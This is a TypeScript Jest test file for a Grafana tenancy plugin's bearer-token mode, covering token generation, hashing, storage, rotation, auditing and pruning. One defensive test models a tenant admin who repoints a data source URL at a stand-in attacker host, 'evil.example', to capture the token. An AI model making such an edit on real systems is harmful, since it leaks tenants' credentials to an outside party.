/** @jest-environment-options {"customExportConditions": ["node", "require", "default"]} */
/**
 * Token mode (issue #14 item 2, tenancy side) against the fake Grafana: generation, where tokens and
 * hashes live, idempotency, rotation with its window, drift by a tenant org Admin, the tokens file.
 */
import { randomBytes } from 'crypto';
import { parse } from 'yaml';
import { GrafanaApi, NO_DELAY_RETRY_POLICY } from '../../src/grafana-api';
import { applyPlan } from '../../src/tenancy/apply';
import { readLiveState } from '../../src/tenancy/observe';
import { planTenants } from '../../src/tenancy/plan';
import { fakeTransport } from '../fakes/grafana-api';
import { readAuditLog } from '../../src/tenancy/audit';
import { readProxyFiles, renderTenantTokensFile } from '../../src/tenancy/proxyFiles';
import { base64url, generateToken, sha256Hex } from '../../src/tenancy/tokens';
import { specFrom, type Env } from './harness';
import {
  applyTokens,
  newTokenEnv,
  planTokens,
  PROVISIONING_ORG,
  registryOf,
  sha256,
  storedAuthorization,
  TOKEN_SPEC_YAML,
  tokenMismatches,
} from './tokenSupport';

const spec = specFrom(TOKEN_SPEC_YAML);

describe('token primitives', () => {
  it('sha256Hex equals Node crypto on lengths around every padding boundary and on non-ASCII text', () => {
    const inputs = ['', 'abc', 'é€😀', 'Bearer x'];
    for (let n = 0; n <= 200; n++) {
      inputs.push(randomBytes(n).toString('latin1'));
    }
    const wrong = inputs.filter((text) => sha256Hex(text) !== sha256(text));
    expect(wrong).toEqual([]);
    // FIPS 180-4 example "abc".
    expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
  });

  it('generateToken: 256 random bits as 43 base64url characters, never repeated', () => {
    const seen = new Set<string>();
    for (let i = 0; i < 200; i++) {
      const t = generateToken();
      expect(t).toMatch(/^[A-Za-z0-9_-]{43}$/);
      seen.add(t);
    }
    expect(seen.size).toBe(200);
    for (let n = 0; n < 40; n++) {
      const bytes = randomBytes(n);
      expect(base64url(new Uint8Array(bytes))).toBe(bytes.toString('base64url'));
    }
  });

  it('refuses to generate without a WebCrypto random source (no Math.random fallback)', () => {
    const original = globalThis.crypto;
    Object.defineProperty(globalThis, 'crypto', { value: undefined, configurable: true });
    try {
      expect(() => generateToken()).toThrow(/WebCrypto/);
    } finally {
      Object.defineProperty(globalThis, 'crypto', { value: original, configurable: true });
    }
  });
});

describe('token mode apply', () => {
  it('is the default when tenantVia is omitted; header mode stays valid with its warning', () => {
    expect(spec.tenants.map((t) => [t.id, t.datasource.mode === 'proxy' && t.datasource.tenantVia])).toEqual([
      ['a', 'token'],
      ['b', 'token'],
      ['h', 'header'],
    ]);
  });

  it('stores the token only in the data source secureJsonData and its hash only in the provisioning org', async () => {
    const env = newTokenEnv();
    const { result } = await applyTokens(env, spec);
    expect(Object.values(result.tenants).map((t) => t.state)).toEqual(['done', 'done', 'done', 'done']);
    const registry = await registryOf(env);
    expect(await tokenMismatches(env, registry)).toEqual([]);
    expect(registry.tenant.a.hashes).toHaveLength(1);
    expect(registry.tenant.h).toBeUndefined();
    // The two tenants' tokens differ.
    expect(storedAuthorization(env, 'Tenant A', 'mtt-a-prom')).not.toBe(
      storedAuthorization(env, 'Tenant B', 'mtt-b-prom')
    );

    // Nothing readable in a tenant org carries the token or its hash.
    const a = [...env.fake.state.orgs.values()].find((o) => o.name === 'Tenant A')!.id;
    const token = storedAuthorization(env, 'Tenant A', 'mtt-a-prom')!.slice('Bearer '.length);
    const readable = JSON.stringify([
      await env.client.getDataSource(a, 'mtt-a-prom'),
      await env.client.listDataSources(a),
      await env.client.getPluginSettings(a, 'mtlabs-tenancy-app'),
    ]);
    expect(readable).not.toContain(token);
    expect(readable).not.toContain(registry.tenant.a.hashes[0]);
    expect(readable).toContain('"secureJsonFields":{"httpHeaderValue1":true}');
  });

  it('re-running writes nothing; the tokens file lists token tenants with their values and hashes', async () => {
    const env = newTokenEnv();
    await applyTokens(env, spec);
    env.fake.resetLog();
    const again = await applyTokens(env, spec);
    expect(again.plan.summary).toMatchObject({ create: 0, update: 0, conflict: 0 });
    expect(env.fake.counts().writes).toBe(0);

    const files = await readProxyFiles(env.api, spec, PROVISIONING_ORG);
    const registry = await registryOf(env);
    expect(files.tokens).toEqual({
      tenants: {
        a: { values: ['a'], tokenSha256: registry.tenant.a.hashes },
        b: { values: ['b', 'b2'], tokenSha256: registry.tenant.b.hashes },
      },
    });
    const text = renderTenantTokensFile(files.tokens);
    expect(text.split('\n')[0]).toMatch(/^# generated by mtlabs-tenancy-app/);
    expect(parse(text)).toEqual(files.tokens);
  });

  it('rotation: plan shows "rotate token", the old hash stays valid until the next apply, which retires it', async () => {
    const env = newTokenEnv();
    await applyTokens(env, spec);
    const before = await registryOf(env);

    const rotating = await planTokens(env, spec, { rotateTokens: ['a'] });
    const stepA = rotating.tenants.find((t) => t.tenantId === 'a')!.steps.find((s) => s.kind === 'token')!;
    expect(stepA).toMatchObject({ action: 'update', message: 'rotate token (requested)' });
    expect(rotating.tenants.find((t) => t.tenantId === 'b')!.steps.find((s) => s.kind === 'token')!.action).toBe(
      'unchanged'
    );
    await applyPlan(env.api, rotating, { retry: false });
    const during = await registryOf(env);
    expect(during.tenant.a.hashes).toHaveLength(2);
    expect(during.tenant.a.hashes[1]).toBe(before.tenant.a.hashes[0]);
    expect(during.tenant.b).toEqual(before.tenant.b);
    expect(await tokenMismatches(env, during)).toEqual([]);
    expect((await readProxyFiles(env.api, spec, PROVISIONING_ORG)).tokens.tenants.a.tokenSha256).toEqual(
      during.tenant.a.hashes
    );

    const next = await applyTokens(env, spec);
    const retire = next.plan.tenants.find((t) => t.tenantId === 'a')!.steps.find((s) => s.kind === 'token')!;
    expect(retire.message).toMatch(/retire previous token/);
    const after = await registryOf(env);
    expect(after.tenant.a.hashes).toEqual([during.tenant.a.hashes[0]]);
    env.fake.resetLog();
    await applyTokens(env, spec);
    expect(env.fake.counts().writes).toBe(0);
  });

  // The attack of the issue: a tenant org Admin edits the data source's header. They cannot read
  // the token and cannot reach the hashes, so they can only break their own access; the next plan
  // notices the foreign write and issues a new token.
  const edits: Array<[string, (ds: Record<string, any>) => Record<string, any>]> = [
    ['header value set to another value', (ds) => ({ ...ds, secureJsonData: { httpHeaderValue1: 'Bearer guessed' } })],
    [
      'header renamed to X-Tenant: b',
      (ds) => ({
        ...ds,
        jsonData: { ...ds.jsonData, httpHeaderName1: 'X-Tenant' },
        secureJsonData: { httpHeaderValue1: 'b' },
      }),
    ],
    [
      'URL pointed at a host the admin controls (token sent there)',
      (ds) => ({ ...ds, url: 'http://evil.example:9090' }),
    ],
  ];
  for (const [name, edit] of edits) {
    it(`a tenant org Admin's edit (${name}) leaves every hash as it was and is repaired with a new token`, async () => {
      const env = newTokenEnv();
      await applyTokens(env, spec);
      const before = await registryOf(env);
      const a = [...env.fake.state.orgs.values()].find((o) => o.name === 'Tenant A')!.id;
      env.fake.createUser({ login: 'tenant-admin', orgId: a, role: 'Admin' });
      const adminClient = clientFor(env, 'tenant-admin');
      const ds = await adminClient.getDataSource(a, 'mtt-a-prom');
      await adminClient.updateDataSource(a, 'mtt-a-prom', edit(ds) as never);
      // The provisioning org is not theirs: they cannot touch the registry.
      await expect(
        adminClient.updatePluginSettings(PROVISIONING_ORG, 'mtlabs-tenancy-app', {
          enabled: true,
          pinned: true,
          jsonData: {},
        })
      ).rejects.toMatchObject({ status: expect.any(Number) });
      expect(await registryOf(env)).toEqual(before);

      const p = await planTokens(env, spec);
      const token = p.tenants.find((t) => t.tenantId === 'a')!.steps.find((s) => s.kind === 'token')!;
      expect(token.action).toBe('update');
      expect(token.message).toMatch(/rotate token/);
      expect(token.diff).toEqual(expect.arrayContaining([{ field: 'token', before: '(set)', after: '(new)' }]));
      await applyPlan(env.api, p, { retry: false });
      const after = await registryOf(env);
      expect(after.tenant.b).toEqual(before.tenant.b);
      expect(after.tenant.a.hashes[0]).not.toBe(before.tenant.a.hashes[0]);
      expect(await tokenMismatches(env, after)).toEqual([]);
      const repaired = await env.client.getDataSource(a, 'mtt-a-prom');
      expect(repaired.url).toBe('http://proxy:9090');
      expect(repaired.jsonData.httpHeaderName1).toBe('Authorization');
    });
  }

  it('audit entries record token steps without the token or its hash', async () => {
    const env = newTokenEnv();
    await applyTokens(env, spec, {}, { audit: { orgId: PROVISIONING_ORG } });
    await applyTokens(env, spec, { rotateTokens: true }, { audit: { orgId: PROVISIONING_ORG } });
    const json = (await env.client.getPluginSettings(PROVISIONING_ORG, 'mtlabs-tenancy-app')).jsonData as Record<
      string,
      unknown
    >;
    const log = JSON.stringify(readAuditLog(json));
    expect(log).toContain('bearer token');
    const registry = await registryOf(env);
    for (const hash of [...registry.tenant.a.hashes, ...registry.tenant.b.hashes]) {
      expect(log).not.toContain(hash);
    }
    expect(log).not.toMatch(/Bearer [A-Za-z0-9_-]{43}/);
    // The registry and the audit log live side by side; neither write dropped the other (or the spec).
    expect(json.tenantSpec).toBe('(kept)');
  });

  it('with an unreadable provisioning org, token tenants are blocked, never issued into the void', async () => {
    const env = newTokenEnv();
    const p = planTenants(spec, await readLiveState(env.api, spec, { provisioningOrgId: 99 }));
    const a = p.tenants.find((t) => t.tenantId === 'a')!;
    expect(a.blocked).toBe(true);
    expect(a.steps.some((s) => s.op?.type === 'issueToken')).toBe(false);
    env.fake.resetLog();
    await applyPlan(env.api, p, { retry: false });
    expect(env.fake.counts().writes).toBe(0);
  });

  it('a tenant leaving token mode loses its hashes at once; a tenant leaving the spec loses them with prune', async () => {
    const env = newTokenEnv();
    await applyTokens(env, spec);
    const header = specFrom(
      TOKEN_SPEC_YAML.replace(
        '    labelValues: [b, b2]\n    orgName: Tenant B\n',
        '    labelValues: [b, b2]\n    orgName: Tenant B\n    datasource: { mode: proxy, tenantVia: header, headerName: X-Tenant, url: "http://proxy:9090" }\n'
      )
    );
    await applyTokens(env, header);
    expect((await registryOf(env)).tenant.b).toBeUndefined();
    expect(storedAuthorization(env, 'Tenant B', 'mtt-b-prom')).toBeUndefined();

    const withoutA = specFrom(
      TOKEN_SPEC_YAML.replace(/  - id: a\n[\s\S]*?(?=  - id: b)/, '').replace(
        '      - { name: a-ops, tenant: a }\n',
        ''
      )
    );
    const noPrune = await applyTokens(env, withoutA);
    expect(noPrune.plan.tenants.find((t) => t.tenantId === 'a')!.steps.map((s) => [s.kind, s.action])).toEqual(
      expect.arrayContaining([['token', 'orphaned']])
    );
    expect((await registryOf(env)).tenant.a).toBeDefined();
    expect((await readProxyFiles(env.api, withoutA, PROVISIONING_ORG)).tokens.tenants.a).toBeUndefined();
    await applyTokens(env, withoutA, {}, { prune: true });
    expect((await registryOf(env)).tenant.a).toBeUndefined();
  });
});

/** Basic auth as that user over the fake's transport (the fake seeds password = login). */
function clientFor(env: Env, login: string): GrafanaApi {
  return new GrafanaApi(
    fakeTransport(env.fake, { auth: { basic: { user: login, password: login } } }),
    NO_DELAY_RETRY_POLICY
  );
}
